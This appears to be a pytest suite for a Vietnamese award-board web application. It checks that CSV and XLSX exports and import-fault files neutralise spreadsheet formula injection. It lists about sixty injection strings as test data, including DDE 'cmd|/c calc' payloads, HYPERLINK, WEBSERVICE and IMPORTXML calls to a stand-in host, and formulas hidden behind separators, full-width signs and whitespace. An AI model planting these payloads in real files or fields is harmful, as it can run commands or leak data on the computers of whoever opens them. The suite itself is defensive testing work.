"""T39: whatever looks like a formula leaves us as text, in every file we hand out."""

import asyncio
import csv
import io
import re
import shutil
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from uuid import UUID

import httpx
import pytest
import pytest_asyncio

from tests.boards.builders import NOON, Award, people, post, put_person
from tests.web.conftest import SignIn
from thidua.accounts.roles import Role
from thidua.infra.database import connection, transaction
from thidua.kernel.cells import guarded
from thidua.organisation.vietnamese import fold

_CALLS = (
    *("=1+2", "=cmd|'/c calc'!A1", '=HYPERLINK("http://x";"a")', '=IMPORTXML(CONCAT("http://x/",A1),"//a")'),
    *('=WEBSERVICE("http://x")', '=DDE("cmd";"/c calc";"x")', "=2+5+cmd|' /C calc'!A0", "=rundll32|'x'!A"),
    *(
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "+1+1",
        "+cmd|'/c calc'!A1",
        "+A1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
    ),
    *(
        "-A1",
        "--1",
        "-Lan",
        "+Lan",
        "=A1",
        "==1",
        "=-1",
        "=+1",
        "=@SUM(A1)",
        "=SUM(A1:A9)",
        "= 1+1",
        "=\u00a01",
    ),
)
_WIDE = tuple(sign + rest for sign in "＝＋－＠" for rest in ("1+1", "SUM(A1)", "cmd|'/c calc'!A1"))  # noqa: RUF001 -- as typed
_HIDDEN = tuple(first + rest for first in ("\t", "\r", "\n", " ", "\x00") for rest in ("=1+1", "+A1", "@A1"))
_INNER = ("Lan;=1+1", "Lan\t=1+1", "Lan;+A1", "Lan|@A1", "Lan\n=1+1", "Lan; -1+1")
STRINGS = (*_CALLS, *_WIDE, *_HIDDEN, *_INNER)
INTACT = (
    "Nguyễn-Trần Thị Lan",
    "H'Hen Niê",
    "0912345678",
    "-5",
    "-5.25",
    "12",
    "lan@xa.gov.vn",
    "Trần (Mai)",
)
NAMES = tuple(
    one for one in STRINGS if one.isprintable() and one == " ".join(one.split()) and "\u00a0" not in one
)
_STARTS = re.compile(r"[\s\x00]*[=+\-@＝＋－＠]|[\t\r\n\x00]")  # noqa: RUF001 -- see above
_SEPARATED = re.compile(r"[;\t\r\n|]\s*[=+\-@＝＋－＠]")  # noqa: RUF001 -- see above


def is_harmless(cell: str) -> bool:
    """Whether no spreadsheet, whatever separator it takes, finds a formula in the cell."""
    is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
    return is_number or not (_STARTS.match(cell) or _SEPARATED.search(cell))


def test_there_are_sixty_strings() -> None:
    assert len(set(STRINGS)) >= 60


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_no_string_begins_a_formula_once_it_is_guarded(text: str) -> None:
    assert is_harmless(guarded(text))


@pytest.mark.parametrize("text", INTACT)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_a_number_from_abroad_keeps_its_digits() -> None:
    assert guarded("+84912345678") == "'+84912345678"


@pytest_asyncio.fixture(scope="module", autouse=True)
async def standing(web: httpx.AsyncClient) -> AsyncIterator[httpx.AsyncClient]:
    """A board on which everybody's name is a formula."""
    async with connection() as reading:
        unit = await reading.fetchval("SELECT id FROM unit WHERE code = 'C-03394'")
    ids = people(len(NAMES))
    async with transaction() as writing:
        for one, name in zip(ids, NAMES, strict=True):
            await put_person(writing, one, name=name, fold=fold(name))
            await _home(writing, one, unit)
        awards = [
            Award(subject=one, points=at + 1, unit=unit, occurred_at=NOON - timedelta(hours=1))
            for at, one in enumerate(ids)
        ]
        await post(writing, awards)
    yield web


async def _home(writing: object, one: UUID, unit: UUID) -> None:
    sql = "INSERT INTO person_home (person, unit) VALUES ($1, $2)"
    await writing.execute(sql, one, unit)  # type: ignore[attr-defined]  # a connection of the pool


def cells_of(content: bytes) -> list[str]:
    lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for line in lines for cell in line]


async def test_a_board_as_csv_holds_no_formula(web: httpx.AsyncClient) -> None:
    answer = await web.get("/boards/people-total/export.csv?scope=P-12")

    cells = cells_of(answer.content)
    assert [cell for cell in cells if not is_harmless(cell)] == []
    assert {f"'{name}" for name in NAMES if name.startswith(("=", "@"))} <= set(cells)


async def test_a_board_as_xlsx_holds_names_as_they_are_and_no_formula(web: httpx.AsyncClient) -> None:
    answer = await web.get("/boards/people-total/export.xlsx?scope=P-12")

    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheet, texts = (
            book.read(f"xl/{name}").decode() for name in ("worksheets/sheet1.xml", "sharedStrings.xml")
        )
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert "<t>=1+2</t>" in texts


async def test_people_as_csv_hold_no_formula(sign_in_as: SignIn) -> None:
    leader = await sign_in_as(Role.UNIT_LEADER)

    answer = await leader.get("/organisation/people.csv")

    cells = cells_of(answer.content)
    assert answer.status_code == 200
    assert len(cells) > len(NAMES)
    assert [cell for cell in cells if not is_harmless(cell)] == []


async def test_the_faults_of_an_import_come_back_without_formulas(sign_in_as: SignIn) -> None:
    leader = await sign_in_as(Role.UNIT_LEADER)
    file = io.StringIO()
    head = ("Họ và tên", "Ngày sinh", "Xã/phường", "Số điện thoại")
    csv.writer(file).writerows([head, *(("", "x", "Xã không có", text) for text in STRINGS)])
    sent = {"file": ("tep.csv", file.getvalue().encode(), "text/csv")}

    page = await leader.post("/imports", files=sent, data={"kind": "people", "unit": "P-12"})
    answer = await leader.get(f"{page.headers['location']}/faults.csv")

    cells = cells_of(answer.content)
    assert len(cells) > 4 * len(STRINGS)
    assert [cell for cell in cells if not is_harmless(cell)] == []


@pytest.mark.long
@pytest.mark.timeout(180)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
async def test_libreoffice_opens_an_export_without_computing_anything(
    web: httpx.AsyncClient, form: str, tmp_path: Path
) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("no LibreOffice here: apt-get install libreoffice-calc")
    answer = await web.get(f"/boards/people-total/export.{form}?scope=P-12")
    file = tmp_path / f"board.{form}"
    await asyncio.to_thread(file.write_bytes, answer.content)

    reading = ["--infilter=CSV:44,34,UTF8"] if form == "csv" else []
    told = [f"-env:UserInstallation=file://{tmp_path}/home", "--headless", *reading]
    told += ["--convert-to", "fods", "--outdir", str(tmp_path), str(file)]
    done = await asyncio.create_subprocess_exec(office, *told, stdout=asyncio.subprocess.DEVNULL)
    await done.wait()

    opened = await asyncio.to_thread((tmp_path / "board.fods").read_text, encoding="utf-8")
    assert "table:formula" not in opened
    assert "HYPERLINK" in opened
